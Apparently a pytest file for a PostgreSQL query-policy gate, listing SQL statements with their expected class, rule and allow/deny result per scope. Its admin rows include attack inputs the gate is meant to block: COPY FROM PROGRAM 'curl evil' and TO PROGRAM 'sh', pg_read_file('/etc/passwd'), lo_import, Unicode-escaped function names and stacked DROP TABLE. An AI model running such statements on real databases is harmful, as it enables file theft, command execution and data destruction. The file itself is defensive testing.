"""The statement table: SQL -> class and rule, and what each default scope does with it.

Rows follow DESIGN.md ("Scopes and statements" and "Decisions since the first
issues") row by row, then the evasions an attacker would try.  Every row is
checked twice: its class and rule, and allowed/denied under read, write, ddl.
"""

from __future__ import annotations

import pytest

from policy.decision import decide
from policy.scopes import DEFAULT_SCOPES
from policy.sql.classify import StatementClass, classify

R, W, D, T = StatementClass.READ, StatementClass.WRITE, StatementClass.DDL, StatementClass.TRANSACTION
A, U, P = StatementClass.ADMIN, StatementClass.UNKNOWN, StatementClass.TWO_PHASE

# (sql, class, rule id or None when any rule will do)
READ_ROWS = [
    ("SELECT 1", R, "read.select"),
    ("select * from t where a = 1 order by b limit 10", R, "read.select"),
    ("VALUES (1, 'a'), (2, 'b')", R, "read.select"),
    ("TABLE t", R, "read.select"),
    ("SELECT a, count(*) FROM t GROUP BY a HAVING count(*) > 1", R, "read.select"),
    ("SELECT * FROM t1 JOIN t2 USING (id) LEFT JOIN t3 ON t3.x = t1.x", R, "read.select"),
    ("WITH x AS (SELECT 1 AS a) SELECT * FROM x", R, "read.select"),
    ("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r", R, None),
    ("SELECT 1 UNION SELECT 2 EXCEPT SELECT 3", R, "read.select"),
    ("SELECT row_number() OVER (PARTITION BY a ORDER BY b) FROM t", R, None),
    ("SELECT now(), clock_timestamp(), random(), gen_random_uuid()", R, None),
    ("SELECT current_user, session_user, current_database(), version()", R, None),
    ("SELECT current_setting('search_path')", R, None),
    ("SELECT pg_sleep(0.1)", R, None),
    ("SELECT pg_catalog.pg_get_viewdef('v'::regclass, true)", R, None),
    ("SELECT pg_catalog.pg_get_functiondef(1::oid)", R, None),
    ("SELECT pg_catalog.format_type(23, NULL)", R, None),
    ("SELECT pg_catalog.pg_get_expr(adbin, adrelid) FROM pg_attrdef", R, None),
    ("SELECT pg_catalog.pg_get_constraintdef(oid, true) FROM pg_constraint", R, None),
    ("SELECT pg_catalog.pg_get_indexdef(indexrelid) FROM pg_index", R, None),
    ("SELECT pg_catalog.pg_get_triggerdef(oid) FROM pg_trigger", R, None),
    ("SELECT pg_catalog.pg_get_userbyid(relowner) FROM pg_class", R, None),
    ("SELECT pg_catalog.obj_description(c.oid, 'pg_class') FROM pg_class c", R, None),
    ("SELECT pg_size_pretty(pg_total_relation_size('t'))", R, None),
    ("SELECT has_table_privilege('t', 'SELECT')", R, None),
    ("SELECT jsonb_build_object('a', 1) -> 'a', '{\"x\":1}'::jsonb ->> 'x'", R, None),
    ("SELECT lower(name), upper(name), length(name), substring(name from 2 for 3) FROM t", R, None),
    ("SELECT extract(year FROM now()), date_trunc('day', now()), now() AT TIME ZONE 'UTC'", R, None),
    ("SELECT position('a' in 'abc'), trim(both from ' x '), overlay('abc' placing 'x' from 2)", R, None),
    ("SELECT coalesce(a, 0), nullif(a, 1), greatest(a, b), CASE WHEN a > 0 THEN 1 END FROM t", R, None),
    ("SELECT a FROM t WHERE a IN (1, 2, 3) AND b BETWEEN 1 AND 5 AND c LIKE 'x%' AND d IS NOT NULL", R, None),
    ("SELECT a FROM t WHERE a = ANY(ARRAY[1, 2]) OR a <> ALL(SELECT b FROM u)", R, None),
    ("SELECT string_agg(a, ',' ORDER BY a), array_agg(DISTINCT b) FROM t", R, None),
    ("SELECT * FROM generate_series(1, 10) g, unnest(ARRAY[1, 2]) u", R, None),
    ("SELECT * FROM t TABLESAMPLE SYSTEM (10)", R, None),
    ("SELECT xmlelement(name a, 'x'), to_char(now(), 'YYYY'), to_json(t) FROM t", R, None),
    ("SELECT information_schema._pg_char_max_length(1, 2)", R, None),
    ("SELECT * FROM information_schema.tables WHERE table_schema = 'public'", R, None),
    ("SELECT pg_advisory_lock(1), pg_advisory_unlock_all(), pg_try_advisory_xact_lock(2)", R, None),
    ("SELECT txid_current(), pg_current_xact_id(), currval('s'), lastval()", R, None),
    ("SELECT lo_get(1234)", R, None),
    ("SELECT pg_export_snapshot()", R, None),
    ("SELECT set_config('search_path', '', false)", R, None),
    ("SELECT pg_catalog.set_config('search_path', '', false)", R, None),
    ("SELECT set_config('application_name', 'x', false)", R, None),
    ("SELECT set_config('statement_timeout', $1, true)", R, None),
    ("SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings "
     "WHERE name = 'restrict_nonsystem_relation_kind'", R, None),
    ("SELECT * FROM t FOR UPDATE SKIP LOCKED", W, "write.select_locking"),
    ("SHOW search_path", R, "read.show"),
    ("SHOW ALL", R, "read.show"),
    ("SHOW TRANSACTION ISOLATION LEVEL", R, "read.show"),
    ("EXPLAIN SELECT * FROM t", R, "read.explain"),
    ("EXPLAIN (COSTS OFF, FORMAT JSON) SELECT * FROM t", R, "read.explain"),
    ("EXPLAIN DELETE FROM t", R, "read.explain"),
    ("EXPLAIN INSERT INTO t VALUES (1)", R, "read.explain"),
    ("EXPLAIN ANALYZE SELECT * FROM t", R, "read.explain_analyze"),
    ("EXPLAIN (ANALYZE false) DELETE FROM t", R, "read.explain"),
    ("EXPLAIN (ANALYZE off, VERBOSE) UPDATE t SET a = 1", R, "read.explain"),
    ("EXPLAIN (ANALYZE 0) DELETE FROM t", R, "read.explain"),
    ("DECLARE c CURSOR FOR SELECT * FROM t", R, "read.declare"),
    ("DECLARE c BINARY NO SCROLL CURSOR WITH HOLD FOR SELECT 1", R, "read.declare"),
    ("FETCH 10 FROM c", R, "read.fetch"),
    ("FETCH FORWARD ALL FROM \"srv\"", R, "read.fetch"),
    ("MOVE ABSOLUTE 5 IN c", R, "read.fetch"),
    ("CLOSE c", R, "read.close"),
    ("CLOSE ALL", R, "read.close"),
    ("COPY t TO STDOUT", R, "read.copy_to"),
    ("COPY public.t (a) TO stdout;", R, "read.copy_to"),
    ("COPY t TO STDOUT WITH (FORMAT csv, HEADER)", R, "read.copy_to"),
    ("COPY (SELECT * FROM t WHERE a > 1) TO STDOUT", R, "read.copy_to"),
    ("LOCK TABLE public.t IN ACCESS SHARE MODE", R, "read.lock_access_share"),
    ("LOCK TABLE a, b IN ACCESS SHARE MODE NOWAIT", R, "read.lock_access_share"),
    ("PREPARE q(int) AS SELECT * FROM t WHERE a = $1", R, "read.prepare"),
]

WRITE_ROWS = [
    ("INSERT INTO t VALUES (1)", W, "write.insert"),
    ("INSERT INTO t (a, b) SELECT a, b FROM u ON CONFLICT (a) DO UPDATE SET b = excluded.b", W, "write.insert"),
    ("INSERT INTO t DEFAULT VALUES RETURNING *", W, "write.insert"),
    ("UPDATE t SET a = a + 1 WHERE b = 2", W, "write.update"),
    ("UPDATE t SET a = u.a FROM u WHERE t.id = u.id", W, "write.update"),
    ("DELETE FROM t WHERE a = 1", W, "write.delete"),
    ("DELETE FROM t USING u WHERE t.id = u.id RETURNING t.*", W, "write.delete"),
    ("MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN UPDATE SET a = u.a "
     "WHEN NOT MATCHED THEN INSERT VALUES (u.id, u.a)", W, "write.merge"),
    ("COPY t FROM STDIN", W, "write.copy_from"),
    ("COPY t (a, b) FROM stdin WITH (FORMAT csv)", W, "write.copy_from"),
    ("copy pgbench_accounts from stdin with (freeze on)", W, "write.copy_from"),
    ("SELECT * FROM t FOR UPDATE", W, "write.select_locking"),
    ("SELECT * FROM t FOR SHARE", W, "write.select_locking"),
    ("SELECT * FROM t FOR NO KEY UPDATE NOWAIT", W, "write.select_locking"),
    ("SELECT * FROM t FOR KEY SHARE", W, "write.select_locking"),
    ("SELECT * FROM (SELECT * FROM t FOR UPDATE) s", W, "write.select_locking"),
    ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", W, "write.modifying_cte"),
    ("WITH i AS (INSERT INTO t VALUES (1) RETURNING a) SELECT a FROM i", W, "write.modifying_cte"),
    ("WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT count(*) FROM u", W, "write.modifying_cte"),
    ("SELECT (WITH d AS (DELETE FROM t RETURNING 1) SELECT 1)", W, "write.modifying_cte"),
    ("WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x", W, "write.insert"),
    ("LOCK TABLE t", W, "write.lock"),
    ("LOCK TABLE t IN ROW EXCLUSIVE MODE", W, "write.lock"),
    ("LOCK t IN SHARE MODE", W, "write.lock"),
    ("LOCK t IN ACCESS EXCLUSIVE MODE", W, "write.lock"),
    ("SELECT nextval('s')", W, "function.write"),
    ("SELECT setval('s', 42)", W, "function.write"),
    ("SELECT pg_catalog.nextval('public.s'::regclass)", W, "function.write"),
    ("VALUES (nextval('s'))", W, "function.write"),
    ("SELECT * FROM t, LATERAL (SELECT nextval('s')) x", W, "function.write"),
    ("NOTIFY chan", W, "write.notify"),
    ("NOTIFY chan, 'payload'", W, "write.notify"),
    ("SELECT pg_notify('chan', 'x')", W, "function.write"),
    ("SELECT lo_create(0)", W, "function.write"),
    ("SELECT lo_unlink(1234)", W, "function.write"),
    ("SELECT lo_put(1234, 0, 'x')", W, "function.write"),
    ("SELECT brin_summarize_new_values('i'::regclass)", W, "function.write"),
    ("EXPLAIN ANALYZE DELETE FROM t", W, "write.delete"),
    ("EXPLAIN (ANALYZE, BUFFERS) INSERT INTO t VALUES (1)", W, "write.insert"),
    ("EXPLAIN (ANALYZE true) UPDATE t SET a = 1", W, "write.update"),
    ("EXPLAIN ANALYZE SELECT * FROM t FOR UPDATE", W, "write.select_locking"),
    ("DECLARE c CURSOR FOR SELECT * FROM t FOR UPDATE", W, "write.select_locking"),
    ("PREPARE p AS DELETE FROM t", W, "write.delete"),
    ("PREPARE p(int) AS INSERT INTO t VALUES ($1)", W, "write.insert"),
    ("PREPARE p AS SELECT nextval('s')", W, "function.write"),
    ("COPY (DELETE FROM t RETURNING *) TO STDOUT", W, "write.delete"),
    ("CALL my_procedure(1)", W, "write.call"),
    ("CALL app.proc()", W, "write.call"),
    ("BEGIN READ WRITE", W, "write.begin_read_write"),
    ("START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE", W, "write.begin_read_write"),
    ("SET TRANSACTION READ WRITE", W, "write.read_write"),
    ("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", W, "write.read_write"),
    ("SELECT my_function()", W, "function.unvouched"),
    ("SELECT app.add(1, 2)", W, "function.unvouched"),
    ("SELECT public.lower('X')", W, "function.unvouched"),
    ("SELECT \"LOWER\"('X')", W, "function.unvouched"),
    ("SELECT * FROM app.report(1)", W, "function.unvouched"),
    ("SELECT 1 OPERATOR(public.+) 2", W, "operator.unvouched"),
    ("SELECT a === b FROM t", W, "operator.unvouched"),
    ("SELECT crosstab_helper FROM t WHERE a @@@@ 'x'", W, "operator.unvouched"),
]

DDL_ROWS = [
    ("CREATE TABLE t (a int PRIMARY KEY, b text DEFAULT 'x')", D, "ddl.create_table"),
    ("CREATE TEMP TABLE tt (a int)", D, "ddl.create_table"),
    ("CREATE TABLE t (a int DEFAULT nextval('s'))", D, "ddl.create_table"),
    ("CREATE UNLOGGED TABLE IF NOT EXISTS t (LIKE u INCLUDING ALL)", D, "ddl.create_table"),
    ("CREATE TABLE p1 PARTITION OF p FOR VALUES FROM (1) TO (10)", D, "ddl.create_table"),
    ("ALTER TABLE t ADD COLUMN c int", D, "ddl.alter_table"),
    ("ALTER TABLE t OWNER TO someone", D, "ddl.alter_table"),
    ("ALTER TABLE t RENAME TO u", D, "ddl.alter_table"),
    ("ALTER TABLE t ALTER COLUMN a SET DEFAULT 1, DROP CONSTRAINT c", D, "ddl.alter_table"),
    ("ALTER TABLE t SET SCHEMA s", D, "ddl.alter_table"),
    ("DROP TABLE t", D, "ddl.drop_table"),
    ("DROP TABLE IF EXISTS a, b CASCADE", D, "ddl.drop_table"),
    ("DROP VIEW v", D, "ddl.drop_view"),
    ("DROP INDEX CONCURRENTLY i", D, "ddl.drop_index"),
    ("DROP FUNCTION f(int)", D, "ddl.drop_function"),
    ("DROP SCHEMA s CASCADE", D, "ddl.drop_schema"),
    ("DROP SEQUENCE s", D, "ddl.drop_sequence"),
    ("DROP TYPE mood", D, "ddl.drop_type"),
    ("CREATE VIEW v AS SELECT * FROM t", D, "ddl.create_view"),
    ("CREATE OR REPLACE VIEW v AS SELECT a FROM t", D, "ddl.create_view"),
    ("CREATE INDEX i ON t (a)", D, "ddl.create_index"),
    ("CREATE UNIQUE INDEX CONCURRENTLY i ON t (lower(b))", D, "ddl.create_index"),
    ("CREATE SEQUENCE s START 10", D, "ddl.create_sequence"),
    ("ALTER SEQUENCE s RESTART", D, "ddl.alter_sequence"),
    ("CREATE SCHEMA s", D, "ddl.create_schema"),
    ("CREATE SCHEMA s CREATE TABLE x (a int)", D, "ddl.create_schema"),
    ("CREATE FUNCTION f(a int) RETURNS int LANGUAGE sql AS $$ SELECT a + 1 $$", D, "ddl.create_function"),
    ("CREATE PROCEDURE p() LANGUAGE sql AS $$ SELECT 1 $$", D, "ddl.create_function"),
    ("ALTER FUNCTION f(int) STABLE", D, "ddl.alter_function"),
    ("CREATE TYPE mood AS ENUM ('a', 'b')", D, "ddl.create_type"),
    ("CREATE TYPE pair AS (a int, b int)", D, "ddl.create_type"),
    ("ALTER TYPE mood ADD VALUE 'c'", D, "ddl.alter_type"),
    ("CREATE DOMAIN posint AS int CHECK (VALUE > 0)", D, "ddl.create_domain"),
    ("CREATE AGGREGATE mysum(int) (sfunc = int4pl, stype = int)", D, "ddl.create_aggregate"),
    ("CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", D, "ddl.create_trigger"),
    ("CREATE RULE r AS ON INSERT TO v DO INSTEAD NOTHING", D, "ddl.create_rule"),
    ("CREATE POLICY p ON t USING (a > 0)", D, "ddl.create_policy"),
    ("CREATE STATISTICS st ON a, b FROM t", D, "ddl.create_statistics"),
    ("CREATE MATERIALIZED VIEW m AS SELECT count(*) FROM t", D, "ddl.create_materialized_view"),
    ("REFRESH MATERIALIZED VIEW CONCURRENTLY m", D, "ddl.refresh_materialized_view"),
    ("TRUNCATE t", D, "ddl.truncate"),
    ("TRUNCATE TABLE a, b RESTART IDENTITY CASCADE", D, "ddl.truncate"),
    ("COMMENT ON TABLE t IS 'hello'", D, "ddl.comment_on_table"),
    ("COMMENT ON COLUMN t.a IS NULL", D, "ddl.comment_on_column"),
    ("CREATE TABLE t2 AS SELECT * FROM t", D, "ddl.create_table_as"),
    ("CREATE TABLE t2 AS SELECT nextval('s')", D, "ddl.create_table_as"),
    ("SELECT * INTO t2 FROM t", D, "ddl.select_into"),
    ("SELECT 1 AS a INTO TEMP t2 UNION SELECT 2", D, "ddl.select_into"),
    ("VACUUM", D, "ddl.vacuum"),
    ("VACUUM (FULL, ANALYZE) t", D, "ddl.vacuum"),
    ("vacuum analyze pgbench_accounts", D, "ddl.vacuum"),
    ("ANALYZE t", D, "ddl.analyze"),
    ("REINDEX TABLE t", D, "ddl.reindex"),
    ("CLUSTER t USING i", D, "ddl.cluster"),
    ("CREATE FOREIGN TABLE ft (a int) SERVER s", D, "ddl.create_foreign_table"),
    ("IMPORT FOREIGN SCHEMA remote FROM SERVER s INTO local", D, "ddl.import_foreign_schema"),
    ("CREATE TEXT SEARCH CONFIGURATION tsc (COPY = english)", D, "ddl.create_text_search_configuration"),
    ("CREATE COLLATION c1 (provider = icu, locale = 'und')", D, "ddl.create_collation"),
    ("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO x", A, "admin.alter_default_privileges"),
    ("EXPLAIN ANALYZE CREATE TABLE t2 AS SELECT 1", D, "ddl.create_table_as"),
    ("ALTER INDEX i RENAME TO j", D, "ddl.alter_index"),
    ("ALTER SCHEMA s OWNER TO x", D, "ddl.alter_schema"),
]

TRANSACTION_ROWS = [
    ("BEGIN", T, "transaction.begin"),
    ("BEGIN ISOLATION LEVEL SERIALIZABLE", T, "transaction.begin"),
    ("BEGIN READ ONLY", T, "transaction.begin"),
    ("BEGIN ISOLATION LEVEL REPEATABLE READ READ ONLY;", T, "transaction.begin"),
    ("START TRANSACTION READ ONLY, DEFERRABLE", T, "transaction.start_transaction"),
    ("COMMIT", T, "transaction.commit"),
    ("COMMIT AND CHAIN", T, "transaction.commit"),
    ("END", T, "transaction.commit"),
    ("ROLLBACK", T, "transaction.rollback"),
    ("ABORT", T, "transaction.rollback"),
    ("SAVEPOINT a", T, "transaction.savepoint"),
    ("RELEASE SAVEPOINT a", T, "transaction.release"),
    ("ROLLBACK TO SAVEPOINT a", T, "transaction.rollback_to_savepoint"),
    ("SET TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ ONLY", T, "transaction.set_transaction"),
    ("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY, DEFERRABLE", T, "transaction.set_transaction"),
    ("SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY", T, "transaction.set_transaction"),
    ("SET TRANSACTION SNAPSHOT '00000003-0000001B-1'", T, "transaction.snapshot"),
    ("SET CONSTRAINTS ALL DEFERRED", T, "transaction.set_constraints"),
    ("SET statement_timeout = 0", T, "set.harmless"),
    ("SET lock_timeout = '5s'", T, "set.harmless"),
    ("SET LOCAL work_mem = '64MB'", T, "set.harmless"),
    ("SET DATESTYLE = ISO", T, "set.harmless"),
    ("SET INTERVALSTYLE = POSTGRES", T, "set.harmless"),
    ("SET extra_float_digits TO 3", T, "set.harmless"),
    ("SET synchronize_seqscans TO off", T, "set.harmless"),
    ("SET idle_in_transaction_session_timeout = 0", T, "set.harmless"),
    ("SET row_security = off", T, "set.harmless"),
    ("SET application_name = 'psql'", T, "set.harmless"),
    ("SET TIME ZONE 'UTC'", T, "set.harmless"),
    ("SET client_encoding = 'UTF8'", T, "set.harmless"),
    ("SET NAMES 'utf-8'", T, "set.harmless"),
    ("SET standard_conforming_strings = on", T, "set.harmless"),
    ("SET search_path = public", T, "set.harmless"),
    ("SET search_path TO pg_catalog, public", T, "set.harmless"),
    ("SET search_path TO \"$user\", public", T, "set.harmless"),
    ("SET SCHEMA 'app'", T, "set.harmless"),
    ("SET search_path TO DEFAULT", T, "set.harmless"),
    ("SET enable_seqscan = off", T, "set.harmless"),
    ("SET restrict_nonsystem_relation_kind = 'view'", T, "set.harmless"),
    ("SET app.tenant_id = '42'", T, "set.custom"),
    ("SET transaction_read_only = on", T, "set.read_only_on"),
    ("SET default_transaction_read_only = true", T, "set.read_only_on"),
    ("RESET statement_timeout", T, "set.harmless"),
    ("RESET ALL", T, "set.reset_all"),
    ("RESET ROLE", T, "set.identity_reset"),
    ("SET ROLE NONE", T, "set.identity_reset"),
    ("RESET SESSION AUTHORIZATION", T, "set.identity_reset"),
    ("SET SESSION AUTHORIZATION DEFAULT", T, "set.identity_reset"),
    ("DISCARD ALL", T, "transaction.discard"),
    ("DISCARD PLANS", T, "transaction.discard"),
    ("DEALLOCATE p", T, "transaction.deallocate"),
    ("DEALLOCATE ALL", T, "transaction.deallocate"),
    ("LISTEN chan", T, "transaction.listen"),
    ("UNLISTEN chan", T, "transaction.unlisten"),
    ("UNLISTEN *", T, "transaction.unlisten"),
]

TWO_PHASE_ROWS = [
    ("PREPARE TRANSACTION 'gid1'", P, "two_phase.prepare_transaction"),
    ("COMMIT PREPARED 'gid1'", P, "two_phase.commit_prepared"),
    ("ROLLBACK PREPARED 'gid1'", P, "two_phase.rollback_prepared"),
]

ADMIN_ROWS = [
    ("GRANT SELECT ON t TO bob", A, "admin.grant"),
    ("REVOKE ALL ON t FROM PUBLIC", A, "admin.revoke"),
    ("GRANT admin TO bob", A, "admin.grant"),
    ("CREATE ROLE bob LOGIN", A, "admin.create_role"),
    ("CREATE USER bob PASSWORD 'x'", A, "admin.create_role"),
    ("ALTER ROLE bob SUPERUSER", A, "admin.alter_role"),
    ("ALTER ROLE bob SET search_path = x", A, "admin.alter_role"),
    ("DROP ROLE bob", A, "admin.drop_role"),
    ("ALTER ROLE bob RENAME TO alice", A, "admin.alter_role"),
    ("REASSIGN OWNED BY bob TO alice", A, "admin.reassign_owned"),
    ("DROP OWNED BY bob", A, "admin.drop_owned"),
    ("SET ROLE admin", A, "set.identity"),
    ("SET LOCAL ROLE admin", A, "set.identity"),
    ("SET SESSION AUTHORIZATION postgres", A, "set.identity"),
    ("SET role = 'postgres'", A, "set.identity"),
    ("ALTER SYSTEM SET work_mem = '1GB'", A, "admin.alter_system"),
    ("ALTER SYSTEM RESET ALL", A, "admin.alter_system"),
    ("COPY t TO '/tmp/out'", A, "admin.copy_file"),
    ("COPY t FROM '/etc/passwd'", A, "admin.copy_file"),
    ("COPY (SELECT 1) TO '/tmp/x'", A, "admin.copy_file"),
    ("COPY t FROM PROGRAM 'curl evil'", A, "admin.copy_program"),
    ("COPY t TO PROGRAM 'sh'", A, "admin.copy_program"),
    ("LOAD 'auto_explain'", A, "admin.load"),
    ("DO $$ BEGIN PERFORM 1; END $$", A, "admin.do"),
    ("DO LANGUAGE plpgsql 'BEGIN NULL; END'", A, "admin.do"),
    ("CREATE EXTENSION dblink", A, "admin.create_extension"),
    ("DROP EXTENSION pg_trgm", A, "admin.drop_extension"),
    ("ALTER EXTENSION x UPDATE", A, "admin.alter_extension"),
    ("ALTER EXTENSION x SET SCHEMA y", A, "admin.alter_extension"),
    ("CHECKPOINT", A, "admin.checkpoint"),
    ("CREATE DATABASE d", A, "admin.create_database"),
    ("DROP DATABASE d", A, "admin.drop_database"),
    ("ALTER DATABASE d SET default_transaction_read_only = off", A, "admin.alter_database"),
    ("ALTER DATABASE d OWNER TO bob", A, "admin.alter_database"),
    ("ALTER DATABASE d RENAME TO e", A, "admin.alter_database"),
    ("CREATE SUBSCRIPTION s CONNECTION 'x' PUBLICATION p", A, "admin.create_subscription"),
    ("DROP SUBSCRIPTION s", A, "admin.drop_subscription"),
    ("CREATE PUBLICATION p FOR ALL TABLES", A, "admin.create_publication"),
    ("DROP PUBLICATION p", A, "admin.drop_publication"),
    ("CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()", A, "admin.create_event_trigger"),
    ("DROP EVENT TRIGGER e", A, "admin.drop_event_trigger"),
    ("SECURITY LABEL ON TABLE t IS 'x'", A, "admin.security_label"),
    ("CREATE TABLESPACE ts LOCATION '/tmp'", A, "admin.create_tablespace"),
    ("DROP TABLESPACE ts", A, "admin.drop_tablespace"),
    ("CREATE LANGUAGE plperlu", A, None),  # parsed as CREATE EXTENSION
    ("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw", A, "admin.create_server"),
    ("CREATE USER MAPPING FOR bob SERVER s OPTIONS (user 'x')", A, "admin.create_user_mapping"),
    ("CREATE ACCESS METHOD am TYPE TABLE HANDLER h", A, "admin.create_access_method"),
    ("COMMENT ON ROLE bob IS 'x'", A, "admin.comment_on_role"),
    ("CREATE SCHEMA s GRANT SELECT ON t TO bob", A, "admin.grant"),
    ("SET default_transaction_read_only = off", A, "set.read_only"),
    ("SET transaction_read_only TO false", A, "set.read_only"),
    ("RESET default_transaction_read_only", A, "set.read_only"),
    ("SET session_replication_role = replica", A, "set.guarded"),
    ("SET local_preload_libraries = 'x'", A, "set.guarded"),
    ("SET pgaudit.log = 'none'", A, "set.guarded"),
    ("SET log_statement = 'none'", A, "set.privileged"),
    ("SET allow_system_table_mods = on", A, "set.privileged"),
    ("SET standard_conforming_strings = off", A, "set.parser"),
    ("SET client_encoding = 'SJIS'", A, "set.parser"),
    ("SET NAMES 'BIG5'", A, "set.parser"),
    ("SET client_encoding = 'LATIN1'", A, "set.parser"),
    ("SELECT set_config('client_encoding', 'SJIS', false)", A, "set.parser"),
    ("SET search_path = public, pg_catalog", A, "set.search_path"),
    ("SET search_path = 'public, pg_catalog'", A, "set.search_path"),
    ("SELECT pg_read_file('/etc/passwd')", A, "function.admin"),
    ("SELECT pg_catalog.pg_read_file('/etc/passwd')", A, "function.admin"),
    ("SELECT * FROM (SELECT pg_catalog.pg_read_file('/etc/passwd')) s", A, "function.admin"),
    ("SELECT * FROM pg_read_file('/etc/passwd')", A, "function.admin"),
    ("SELECT PG_READ_FILE('/etc/passwd')", A, "function.admin"),
    ("SELECT \"pg_read_file\"('/etc/passwd')", A, "function.admin"),
    ("SELECT U&\"pg\\005fread_file\"('/etc/passwd')", A, "function.admin"),
    ("SELECT evil.pg_read_file('/etc/passwd')", A, "function.admin"),
    ("SELECT pg_read_binary_file('/etc/passwd')", A, "function.admin"),
    ("SELECT pg_ls_dir('.')", A, "function.admin"),
    ("SELECT pg_ls_waldir()", A, "function.admin"),
    ("SELECT pg_stat_file('postgresql.conf')", A, "function.admin"),
    ("SELECT lo_import('/etc/passwd')", A, "function.admin"),
    ("SELECT lo_export(1234, '/tmp/x')", A, "function.admin"),
    ("SELECT pg_terminate_backend(123)", A, "function.admin"),
    ("SELECT pg_cancel_backend(pid) FROM pg_stat_activity", A, "function.admin"),
    ("SELECT pg_reload_conf()", A, "function.admin"),
    ("SELECT pg_rotate_logfile()", A, "function.admin"),
    ("SELECT pg_promote()", A, "function.admin"),
    ("SELECT pg_switch_wal()", A, "function.admin"),
    ("SELECT pg_create_logical_replication_slot('s', 'pgoutput')", A, "function.admin"),
    ("SELECT pg_drop_replication_slot('s')", A, "function.admin"),
    ("SELECT pg_stat_reset()", A, "function.admin"),
    ("SELECT dblink('host=x', 'DELETE FROM t')", A, "function.admin"),
    ("SELECT dblink_exec('DROP TABLE t')", A, "function.admin"),
    ("SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')", A, "function.admin"),
    ("SELECT ts_stat('SELECT vec FROM docs')", A, "function.admin"),
    ("SELECT pg_file_write('x', 'y', false)", A, "function.admin"),
    ("SELECT set_config('role', 'postgres', false)", A, "set.identity"),
    ("SELECT set_config('session_authorization', 'postgres', false)", A, "set.identity"),
    ("SELECT set_config('default_transaction_read_only', 'off', false)", A, "set.read_only"),
    ("SELECT set_config('transaction_read_only', 'off', true)", A, "set.read_only"),
    ("SELECT set_config('search_path', 'public, pg_catalog', false)", A, "set.search_path"),
    ("SELECT set_config('session_replication_role', 'replica', false)", A, "set.guarded"),
    ("SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'role'", A, "set.identity"),
    ("UPDATE pg_settings SET setting = 'off' WHERE name = 'default_transaction_read_only'", A,
     "admin.pg_settings"),
    ("WITH x AS (UPDATE pg_catalog.pg_settings SET setting = 'x' WHERE name = 'role' RETURNING 1) "
     "SELECT * FROM x", A, "admin.pg_settings"),
    ("INSERT INTO t VALUES (pg_read_file('/etc/passwd'))", A, "function.admin"),
    ("INSERT INTO t SELECT pg_terminate_backend(pid) FROM pg_stat_activity", A, "function.admin"),
    ("CREATE VIEW v AS SELECT pg_read_file('/etc/passwd')", A, "function.admin"),
    ("CREATE TABLE t (a text DEFAULT pg_read_file('/etc/passwd'))", A, "function.admin"),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role = 'postgres' AS 'SELECT 1'", A, "set.identity"),
    ("ALTER FUNCTION f() SET search_path = public, pg_catalog", A, "set.search_path"),
    ("EXPLAIN SELECT pg_read_file('/etc/passwd')", A, "function.admin"),
    ("EXPLAIN ANALYZE SELECT pg_terminate_backend(1)", A, "function.admin"),
    ("COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT", A, "function.admin"),
    ("SELECT a FROM t WHERE a = ANY(SELECT pg_terminate_backend(pid) FROM pg_stat_activity)", A,
     "function.admin"),
    ("SELECT * FROM t ORDER BY pg_cancel_backend(1)", A, "function.admin"),
    ("VALUES ((SELECT lo_import('/etc/passwd')))", A, "function.admin"),
    ("WITH a AS (WITH b AS (SELECT pg_read_file('x')) SELECT * FROM b) SELECT * FROM a", A, "function.admin"),
]

UNKNOWN_ROWS = [
    ("SELECT set_config(current_setting('x'), 'y', false)", U, "function.set_config_nonliteral"),
    ("SELECT set_config(name, 'x', false) FROM pg_settings", U, "function.set_config_nonliteral"),
    ("SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'application_name' OR true", U,
     "function.set_config_nonliteral"),
    ("SELECT (SELECT set_config(name, 'x', false) FROM t) FROM pg_settings WHERE name = 'application_name'",
     U, "function.set_config_nonliteral"),
    ("SELECT set_config('search_path', current_setting('x'), false)", U, "set.nonliteral"),
    ("SET no_such_setting = 1", U, "set.unknown"),
    ("EXECUTE never_prepared", U, "execute.unknown"),
    ("EXECUTE never_prepared(1, 2)", U, "execute.unknown"),
    ("SELEC 1", U, "parse.syntax"),
    ("SELECT 'unterminated", U, "parse.syntax"),
    ("SELECT 1; DROP TABLE", U, "parse.syntax"),
]

ROWS = READ_ROWS + WRITE_ROWS + DDL_ROWS + TRANSACTION_ROWS + TWO_PHASE_ROWS + ADMIN_ROWS + UNKNOWN_ROWS

SCOPE_ALLOWS = {
    "read": {R, T},
    "write": {R, T, W, P},
    "ddl": {R, T, W, P, D},
}


def test_table_is_big_enough():
    assert len(ROWS) >= 200
    assert len(READ_ROWS) + len(TRANSACTION_ROWS) >= 60


@pytest.mark.parametrize("sql,cls,rule", ROWS, ids=[r[0][:60] for r in ROWS])
def test_class_and_rule(sql, cls, rule):
    classified = classify(sql)
    assert len(classified.statements) == 1
    stmt = classified.statements[0]
    assert (stmt.statement_class, stmt.rule_id if rule else None) == (cls, rule), stmt


@pytest.mark.parametrize("scope", sorted(SCOPE_ALLOWS))
@pytest.mark.parametrize("sql,cls,rule", ROWS, ids=[r[0][:60] for r in ROWS])
def test_scope_decision(sql, cls, rule, scope):
    decision = decide(DEFAULT_SCOPES[scope], classify(sql))
    assert decision.allowed is (cls in SCOPE_ALLOWS[scope]), decision.message
    if not decision.allowed:
        assert decision.sqlstate == "42501"
        assert decision.rule_id in decision.message


# --------------------------------------------------------------------------- several statements

MULTI = [
    # sql, class of each statement, allowed under read / write / ddl
